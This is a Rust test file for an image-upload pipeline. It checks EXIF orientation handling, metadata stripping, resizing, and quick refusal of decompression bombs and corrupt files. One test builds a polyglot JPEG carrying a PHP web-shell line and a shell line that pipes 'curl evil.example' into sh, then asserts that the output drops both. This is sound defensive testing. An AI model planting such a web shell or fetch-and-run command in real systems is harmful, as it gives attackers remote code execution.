//! The photo pipeline on the files phones and attackers send: stored upright and without any metadata,
//! bombs and broken files refused fast, renditions of the right size.

use std::time::{Duration, Instant};

use liaison::infra::photos::PhotoFormat;
use liaison::infra::photos::process::{PhotoError, PixelLimits, process};

use crate::photo_fixtures::{
    MAKE, jpeg_declaring, jpeg_markers, phone_photo, png_chunks, png_declaring, quadrant_jpeg, reddish,
};

fn limits() -> PixelLimits {
    PixelLimits::default()
}

#[test]
fn a_phone_photo_is_turned_upright_and_loses_every_piece_of_metadata() {
    let upload = phone_photo();
    assert!(upload.windows(4).any(|w| w == b"Exif"), "the fixture carries EXIF");
    let photo = process(&upload, &limits()).unwrap();
    assert_eq!(photo.format, PhotoFormat::Jpeg);
    for rendition in [&photo.display, &photo.thumb] {
        // Orientation 6: the 64×32 pixels are shown turned clockwise, 32 wide and 64 tall.
        assert_eq!((rendition.width, rendition.height), (32, 64));
        assert_eq!(jpeg_markers(&rendition.bytes).iter().filter(|m| (0xe1..=0xef).contains(*m)).count(), 0);
        assert!(!jpeg_markers(&rendition.bytes).contains(&0xfe), "no comment segment");
        for needle in [b"Exif".as_slice(), MAKE.as_bytes(), b"GPS", b"http://ns.adobe.com"] {
            assert!(!rendition.bytes.windows(needle.len()).any(|w| w == needle));
        }
        let img = image::load_from_memory(&rendition.bytes).unwrap().to_rgb8();
        // The red quadrant was top-left as stored; turned clockwise it is top-right.
        assert!(reddish(img.get_pixel(24, 8)), "{:?}", img.get_pixel(24, 8));
        assert!(!reddish(img.get_pixel(8, 8)), "{:?}", img.get_pixel(8, 8));
        assert!(!reddish(img.get_pixel(24, 56)));
    }
    assert_eq!(photo.sha256.len(), 64);
    assert_eq!(photo.sha256, process(&upload, &limits()).unwrap().sha256, "the same file has the same hash");
}

#[test]
fn every_orientation_comes_out_upright() {
    // (orientation, where the stored top-left red quadrant ends up as (right?, bottom?)), for a 64×32 image.
    let cases = [
        (1, (false, false), (64, 32)),
        (3, (true, true), (64, 32)),
        (6, (true, false), (32, 64)),
        (8, (false, true), (32, 64)),
    ];
    for (orientation, (right, bottom), size) in cases {
        let upload = crate::photo_fixtures::with_exif(&quadrant_jpeg(64, 32), orientation);
        let photo = process(&upload, &limits()).unwrap();
        assert_eq!((photo.display.width, photo.display.height), size, "orientation {orientation}");
        let img = image::load_from_memory(&photo.display.bytes).unwrap().to_rgb8();
        let (w, h) = img.dimensions();
        let x = if right { w * 3 / 4 } else { w / 4 };
        let y = if bottom { h * 3 / 4 } else { h / 4 };
        assert!(reddish(img.get_pixel(x, y)), "orientation {orientation}: red should be at ({x},{y})");
    }
}

#[test]
fn renditions_have_the_promised_sizes_and_are_never_upscaled() {
    let photo = process(&quadrant_jpeg(3000, 2000), &limits()).unwrap();
    assert_eq!((photo.display.width, photo.display.height), (2048, 1365));
    assert_eq!((photo.thumb.width, photo.thumb.height), (320, 213));
    let small = process(&quadrant_jpeg(200, 100), &limits()).unwrap();
    assert_eq!((small.display.width, small.display.height), (200, 100));
    assert_eq!((small.thumb.width, small.thumb.height), (200, 100));
}

#[test]
fn a_transparent_png_stays_transparent_without_text_chunks() {
    let img = image::RgbaImage::from_fn(40, 20, |x, _| image::Rgba([10, 200, 10, if x < 20 { 0 } else { 255 }]));
    let mut upload = std::io::Cursor::new(Vec::new());
    img.write_to(&mut upload, image::ImageFormat::Png).unwrap();
    // A text chunk with a location, as some apps write.
    let mut upload = upload.into_inner();
    let iend = upload.len() - 12;
    let text = b"tEXtComment\0lat=39.1175 lng=117.1953";
    let mut chunk = (text.len() as u32 - 4).to_be_bytes().to_vec();
    chunk.extend_from_slice(text);
    chunk.extend_from_slice(&[0, 0, 0, 0]);
    upload.splice(iend..iend, chunk);
    let photo = process(&upload, &limits()).unwrap();
    assert_eq!(photo.format, PhotoFormat::Png);
    assert_eq!(png_chunks(&photo.display.bytes), vec!["IHDR", "IDAT", "IEND"]);
    let out = image::load_from_memory(&photo.display.bytes).unwrap().to_rgba8();
    assert_eq!(out.get_pixel(5, 5).0[3], 0);
    assert_eq!(out.get_pixel(35, 5).0[3], 255);
    // An opaque PNG (a screenshot) becomes a JPEG.
    let opaque = image::RgbImage::from_pixel(30, 30, image::Rgb([1, 2, 3]));
    let mut bytes = std::io::Cursor::new(Vec::new());
    opaque.write_to(&mut bytes, image::ImageFormat::Png).unwrap();
    assert_eq!(process(&bytes.into_inner(), &limits()).unwrap().format, PhotoFormat::Jpeg);
}

#[test]
fn bombs_are_refused_at_once_without_decoding() {
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("png 60000×60000", png_declaring(60_000, 60_000)),
        ("png 11000×11000 (over the pixel count)", png_declaring(11_000, 11_000)),
        ("jpeg 60000×60000", jpeg_declaring(60_000, 60_000)),
        ("jpeg 65000×100", jpeg_declaring(65_000, 100)),
    ];
    for (what, bytes) in cases {
        let started = Instant::now();
        let result = process(&bytes, &limits());
        assert!(
            matches!(result, Err(PhotoError::TooLarge { .. } | PhotoError::OverDecoderLimit)),
            "{what}: {result:?}"
        );
        assert!(started.elapsed() < Duration::from_millis(500), "{what} took {:?}", started.elapsed());
    }
}

#[test]
fn broken_files_and_other_formats_are_refused() {
    let jpeg = quadrant_jpeg(256, 256);
    let truncated = &jpeg[..jpeg.len() / 3];
    assert!(matches!(process(truncated, &limits()), Err(PhotoError::Corrupt(_))), "truncated JPEG");
    let mut png = std::io::Cursor::new(Vec::new());
    image::RgbImage::from_pixel(64, 64, image::Rgb([9, 9, 9])).write_to(&mut png, image::ImageFormat::Png).unwrap();
    let png = png.into_inner();
    assert!(matches!(process(&png[..png.len() / 2], &limits()), Err(PhotoError::Corrupt(_))), "truncated PNG");
    let mut garbled = jpeg.clone();
    for b in garbled.iter_mut().skip(200).step_by(7) {
        *b = 0xff;
    }
    assert!(process(&garbled, &limits()).is_err(), "garbled JPEG");
    assert!(matches!(
        process(&png_declaring(0, 10), &limits()),
        Err(PhotoError::Corrupt(_) | PhotoError::TooLarge { .. })
    ));
    let heic = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic".to_vec();
    assert_eq!(process(&heic, &limits()), Err(PhotoError::Unsupported { heic: true }));
    assert_eq!(process(b"GIF89a\x01\x00\x01\x00", &limits()), Err(PhotoError::Unsupported { heic: false }));
}

#[test]
fn a_jpeg_that_is_also_a_script_keeps_only_its_pixels() {
    let mut polyglot = quadrant_jpeg(64, 64);
    // A comment segment with PHP, and a shell script after the end of the image.
    let php = b"<?php system($_GET['c']); ?>";
    let mut com = vec![0xff, 0xfe];
    com.extend_from_slice(&((php.len() + 2) as u16).to_be_bytes());
    com.extend_from_slice(php);
    polyglot.splice(2..2, com);
    polyglot.extend_from_slice(b"\n#!/bin/sh\ncurl evil.example | sh\n");
    let photo = process(&polyglot, &limits()).unwrap();
    for rendition in [&photo.display.bytes, &photo.thumb.bytes] {
        assert!(!rendition.windows(5).any(|w| w == b"<?php"));
        assert!(!rendition.windows(9).any(|w| w == b"#!/bin/sh"));
        assert_eq!(&rendition[rendition.len() - 2..], &[0xff, 0xd9], "ends at the end of the image");
    }
}

/// Runs `liaison photos process` on `bytes` with the address space capped at `limit_kib`.
fn process_capped(bytes: &[u8], limit_kib: u64) -> std::process::Output {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("upload.bin");
    std::fs::write(&file, bytes).unwrap();
    std::process::Command::new("sh")
        .arg("-c")
        .arg(format!("ulimit -v {limit_kib} && exec \"$0\" photos process \"$1\" --out \"$2\""))
        .arg(env!("CARGO_BIN_EXE_liaison"))
        .arg(&file)
        .arg(dir.path().join("out"))
        .env("LIAISON_CONFIG", dir.path().join("absent.toml"))
        .output()
        .unwrap()
}

#[test]
fn bombs_are_refused_within_a_small_memory_budget() {
    // 400 MiB of address space: decoding 60000×60000 RGBA would need 14 GB, so only a refusal made before
    // allocating the pixels can end cleanly here. A real 12-megapixel photo fits in the same budget.
    for (what, bytes) in [("png", png_declaring(60_000, 60_000)), ("jpeg", jpeg_declaring(60_000, 60_000))] {
        let output = process_capped(&bytes, 400 * 1024);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{what}: {stderr}");
        assert!(stderr.contains("refused: the image declares 60000×60000 pixels"), "{what}: {stderr}");
    }
    let photo = crate::helpers::image_bytes(image::ImageFormat::Jpeg, 4000, 3000);
    let output = process_capped(&photo, 400 * 1024);
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let summary: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(summary["display"]["width"], 2048);
    assert_eq!(summary["thumb"]["width"], 320);
}
